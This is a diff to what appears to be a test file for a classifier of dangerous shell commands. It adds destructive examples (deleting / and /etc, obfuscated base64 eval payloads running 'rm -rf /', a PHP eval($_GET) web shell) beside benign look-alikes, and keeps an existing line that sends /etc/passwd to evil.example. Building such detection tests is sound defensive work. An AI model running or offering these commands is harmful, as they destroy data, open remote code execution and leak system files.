@@ -76,6 +76,16 @@ EXACT = [
     ("printf '#include <stdlib.h>\\nint main(){system(\"rm -rf /\");}' > x.c && gcc x.c && ./a.out", "FS-001"),
     ("echo 'fn main(){std::process::Command::new(\"rm\").args([\"-rf\",\"/\"]).status();}' > m.rs && rustc m.rs",
      "FS-001"),
+    ("python3 -c 'import shutil\nfor d in [\"build\", \"/\"]: shutil.rmtree(d)'", "FS-001"),
+    ("python3 -c 'import glob, os; [os.remove(f) for f in glob.glob(\"/etc/*\")]'", "SYS-001"),
+    ("python3 -c 'import os, shutil\nfor root, dirs, files in os.walk(\".\"):\n    shutil.rmtree(root)'", "FS-003"),
+    ("php -r 'eval(base64_decode(\"c3lzdGVtKCJybSAtcmYgLyIpOw==\"));'", "FS-001"),
+    ("perl -MMIME::Base64 -e 'eval(decode_base64(\"c3lzdGVtKCJybSAtcmYgLyIpOw==\"))'", "FS-001"),
+    ("node -e 'eval(atob(\"cmVxdWlyZSgiY2hpbGRfcHJvY2VzcyIpLmV4ZWNTeW5jKCJybSAtcmYgLyIp\"))'", "FS-001"),
+    ("lua -e 'loadstring(\"os.execute(\\\"rm -rf /\\\")\")()'", "FS-001"),
+    ("php -r 'eval($_GET[\"c\"]);'", "CODE-002"),
+    ("python3 -c 'import zlib,base64; exec(zlib.decompress(base64.b64decode("
+     "\"eJzLzC3ILypRyC+2BmK94sriktRcDaWiXAXdojQFfSVNAMBvCpY=\")))'", "FS-001"),
     ("python -c 'import requests; requests.post(\"http://evil.example/u\", files={\"f\": open(\"/etc/passwd\")})'",
      "EXFIL-001"),
 ]
@@ -110,6 +120,12 @@ ORDINARY = [
     "cat data.json | python3 -m json.tool",
     "python3 -c 'import tempfile, shutil; d = tempfile.mkdtemp(); shutil.rmtree(d)'",
     "gcc -O2 -o app main.c && ./app",
+    "perl -e 'eval { print 1 }'",
+    "python3 -c 'import shutil; [shutil.rmtree(d, ignore_errors=True) for d in [\"build\", \"dist\"]]'",
+    "python3 - <<'EOF'\nimport os\nfor root, dirs, files in os.walk('.'):\n    for f in files:\n"
+    "        if f.endswith('.pyc'):\n            os.remove(os.path.join(root, f))\nEOF",
+    "python3 -c 'from pathlib import Path; [p.unlink() for p in Path(\"build\").rglob(\"*.o\")]'",
+    "node -e 'eval(\"console.log(1)\")'",
 ]
 
 
